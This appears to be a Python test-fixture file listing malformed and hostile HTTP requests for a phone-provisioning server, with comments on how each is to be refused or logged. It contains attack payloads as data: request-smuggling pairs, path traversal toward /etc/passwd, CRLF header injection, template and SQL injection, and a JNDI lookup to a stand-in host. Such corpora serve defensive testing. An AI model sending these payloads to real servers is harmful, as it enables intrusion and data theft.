"""Bytes that scanners, broken phones and attackers send, and what each has to be answered."""

from __future__ import annotations

MARK = b"ATTACKERBYTES"  # in every request below: nothing of it may come back, or reach the log
HOST = b"Host: phones.example.com\r\n"
MAC = b"805ec0aabbcc"
GET = b"GET /" + MAC + b".cfg HTTP/1.1\r\n"
PUT = b"PUT /" + MAC + b"-local.cfg HTTP/1.1\r\n"
_AGENT = b"User-Agent: " + MARK + b"\r\n"


def _get(path: bytes) -> bytes:
    return b"GET " + path + b" HTTP/1.1\r\n" + HOST + b"\r\n"


def _put(headers: bytes, body: bytes = b"hello") -> bytes:
    return PUT + HOST + _AGENT + headers + b"\r\n" + body + MARK


# No HTTP, or HTTP that two parsers could read in two ways: always the same 400, and the connection ends.
MALFORMED: dict[str, bytes] = {
    "length and chunks": _put(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\nGET /smuggled"),
    "chunks and length": _put(b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", b"0\r\n\r\n"),
    "two lengths": _put(b"Content-Length: 5\r\nContent-Length: 6\r\n"),
    "the same length twice": _put(b"Content-Length: 5\r\nContent-Length: 5\r\n"),
    "a list of lengths": _put(b"Content-Length: 5, 5\r\n"),
    "negative length": _put(b"Content-Length: -5\r\n"),
    "signed length": _put(b"Content-Length: +5\r\n"),
    "hexadecimal length": _put(b"Content-Length: 0x5\r\n"),
    "length beyond 64 bits": _put(b"Content-Length: 99999999999999999999999\r\n"),
    "unknown transfer coding": _put(b"Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n"),
    "two transfer codings": _put(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", b"0\r\n\r\n"),
    "chunk size that is no number": _put(b"Transfer-Encoding: chunked\r\n", b"zz\r\n"),
    "two hosts": GET + HOST + b"Host: " + MARK + b"\r\n\r\n",
    "no host": GET + _AGENT + b"\r\n",
    "folded header": GET + HOST + b"X-Folded: a\r\n " + MARK + b"\r\n\r\n",
    "folded first header": GET + b" Host: " + MARK + b"\r\n\r\n",
    "line feeds only": (GET + HOST + _AGENT).replace(b"\r\n", b"\n") + b"\n",
    "one line feed": GET + b"Host: x\nX-Other: " + MARK + b"\r\n\r\n",
    "one carriage return": GET + b"Host: x\rX-Other: " + MARK + b"\r\n\r\n",
    "blank before the colon": GET + b"Host : " + MARK + b"\r\n\r\n",
    "no colon": GET + HOST + MARK + b"\r\n\r\n",
    "no header name": GET + HOST + b": " + MARK + b"\r\n\r\n",
    "NUL in a header": GET + HOST + b"X-Null: a\0" + MARK + b"\r\n\r\n",
    "escape in the agent": GET + HOST + b"User-Agent: \x1b[2J" + MARK + b"\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + MARK,
    "TLS": bytes.fromhex("16030100c8010000c40303") + MARK + bytes(180),
    "SSL 2": b"\x80\x2e\x01\x00\x02" + MARK + bytes(40),
    "SSH": b"SSH-2.0-" + MARK + b"\r\n",
    "SMB": b"\x00\x00\x00\x85\xffSMBr" + MARK + bytes(60),
    "SIP": b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=" + MARK + b"\r\n\r\n",
    "PROXY 1": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + GET + HOST + _AGENT + b"\r\n",
    "PROXY 2": b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c" + MARK,
    "HTTP/3 on paper": GET.replace(b"/1.1", b"/3.0") + HOST + _AGENT + b"\r\n",
    "version of tomorrow": GET.replace(b"/1.1", b"/1.9") + HOST + _AGENT + b"\r\n",
    "method nobody knows": MARK + _get(b"/")[3:],
    "method in small letters": b"get" + _get(b"/" + MARK)[3:],
    "tabs between the words": _get(b"/" + MARK).replace(b" ", b"\t"),
    "blank in the path": _get(b"/a " + MARK),
    "star for a path": _get(b"*" + MARK),
    "path without a slash": _get(MARK),
    "URL with half an address": _get(b"http://[::1/" + MARK),
    "NUL in the path": _get(b"/\0" + MARK),
    "path that is no ASCII": _get("/é".encode() + MARK),
    "path that is no UTF-8": _get(b"/\xff\xfe" + MARK),
    "header of 9 kB": GET + HOST + b"X-Long: " + MARK + b"a" * 9_000 + b"\r\n\r\n",
    "header name of 9 kB": GET + HOST + MARK + b"a" * 9_000 + b": x\r\n\r\n",
    "header without an end": GET + HOST + b"X-Long: " + MARK + b"a" * 300_000,
    "200 headers": GET + HOST + b"".join(b"X-%d: %b\r\n" % (n, MARK) for n in range(200)) + b"\r\n",
    "path of 9 kB": _get(b"/" + MARK + b"a" * 9_000),
    "zeros": bytes(500) + MARK,
    "all bytes there are": bytes(range(256)) * 8 + MARK,
}

# HTTP, but nothing for a phone: the same refusal as for everybody. Log lines do not quote such a path.
HOSTILE: dict[str, bytes] = {
    "whole URL": _get(b"http://evil.example/" + MARK),
    "whole URL of ours": _get(b"http://phones.example.com/" + MAC + b".cfg?" + MARK),
    "two slashes": _get(b"//evil.example/" + MARK),
    "up": _get(b"/../../etc/" + MARK),
    "up from a folder": _get(b"/" + MARK + b"/../../etc/passwd"),
    "up, encoded": _get(b"/%2e%2e%2f%2e%2e%2fetc%2f" + MARK),
    "up, encoded twice": _get(b"/%252e%252e%252fetc%252f" + MARK),
    "up, overlong": _get(b"/%c0%ae%c0%ae/etc/" + MARK),
    "up, 16 bits": _get(b"/%u002e%u002e/" + MARK),
    "backslashes": _get(b"/..\\..\\" + MARK),
    "backslashes, encoded": _get(b"/..%5c..%5c" + MARK),
    "UNC": _get(b"/\\\\evil\\" + MARK),
    "NUL, encoded": _get(b"/" + MAC + b".cfg%00" + MARK),
    "new header, encoded": _get(b"/" + MAC + b".cfg%0d%0aX-Injected:%20" + MARK),
    "fragment": _get(b"/" + MAC + b".cfg#" + MARK),
    "semicolon": _get(b"/" + MAC + b".cfg;" + MARK),
    "template": _get(b"/{{7*7}}" + MARK),
    "log lookup": _get(b"/${jndi:ldap://evil/" + MARK + b"}"),
    "quotes": _get(b"/'%20OR%20'1'='1" + MARK),
    "long path": _get(b"/" + MARK + b"a" * 1_500),
}

# Odd, and answered like any other request; the log has the agent, made harmless.
ODD: dict[str, bytes] = {
    "no host in 1.0": GET.replace(b"/1.1", b"/1.0") + b"\r\n",
    "half an address as host": GET + b"Host: [::1\r\n\r\n",
    "blank lines first": b"\r\n\r\n" + GET + HOST + b"\r\n",
    "WebSocket": GET + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "HTTP/2 by upgrade": GET
    + HOST
    + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n",
    "unknown expectation": GET + HOST + b"Expect: 200-ok\r\n\r\n",
    "body where none belongs": GET + HOST + b"Content-Length: 5\r\n\r\nhello",
    "stream of a file system": _get(b"/" + MAC + b".cfg::$DATA"),
    "agent that is no UTF-8": GET + HOST + b"User-Agent: \xff\xfe\x80\r\n\r\n",
    "agent that turns the line around": GET + HOST + "User-Agent: a\u2028b\u202ec\u0085".encode() + b"\r\n\r\n",
    "agent that forges a line": GET + HOST + b'User-Agent: "},\\n{"event":"forged"\r\n\r\n',
    "agent of 4 kB": GET + HOST + b"User-Agent: " + b"A" * 4_000 + b"\r\n\r\n",
    "agent of 4 kB in wide letters": GET + HOST + b"User-Agent: " + "\U0001f4de".encode() * 1_000 + b"\r\n\r\n",
}

# Methods that no phone uses, in the forms that proxies and scanners give them.
METHODS: dict[str, bytes] = {
    "CONNECT": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
    "OPTIONS *": b"OPTIONS * HTTP/1.1\r\n" + HOST + b"\r\n",
    "OPTIONS": b"OPTIONS / HTTP/1.1\r\n" + HOST + b"\r\n",
    "TRACE": b"TRACE / HTTP/1.1\r\n" + HOST + _AGENT + b"\r\n",
    "DELETE": b"DELETE /" + MAC + b".cfg HTTP/1.1\r\n" + HOST + b"\r\n",
}
